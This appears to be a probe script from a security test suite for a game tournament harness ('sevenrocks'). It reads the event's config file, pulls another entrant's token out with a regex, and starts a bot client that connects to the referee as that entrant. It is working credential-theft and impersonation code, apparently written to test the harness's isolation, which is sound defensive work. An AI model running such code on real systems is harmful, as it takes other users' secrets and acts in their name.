"""Reads the event's config (THIEF_CONFIG, its path as the harness's command line shows it) at
start, takes the first remote entrant's token from it and, when it found one, dials the referee
with it as that entrant (a greedy player in a child process), then plays its own seats."""

import os
import re
import subprocess
import sys

from attack import main, report


def steal() -> None:
    path = os.environ["THIEF_CONFIG"]
    try:
        with open(path, encoding="utf-8", errors="replace") as f:
            text = f.read()
        seen = "read"
    except OSError as e:
        text, seen = "", type(e).__name__
    tokens = re.findall(r'^token\s*=\s*"([^"]+)"', text, re.M)
    report("thief", config=seen, chars=len(text), tokens=len(tokens))
    if tokens:
        env = {**os.environ, "SEVENROCKS_TOKEN": tokens[0]}
        subprocess.Popen([sys.executable, "-m", "sevenrocks.sdk.client", "--bot", "greedy"], env=env,
                         stdout=subprocess.DEVNULL)


main(steal, at_first_move=False)
